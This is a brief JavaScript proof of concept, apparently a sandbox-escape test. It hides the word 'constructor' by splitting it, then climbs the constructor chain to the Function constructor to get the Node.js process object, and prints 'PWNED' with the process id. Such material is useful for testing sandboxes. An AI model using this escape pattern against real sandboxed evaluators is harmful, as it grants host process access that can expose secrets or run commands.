'use strict';
const w = ['con', 'structor'].join('');
const fn = (x) => x;
const t = { a: () => 1 };
const f = t[w](fn);
console.log('PWNED', f[w]('return process')().pid);
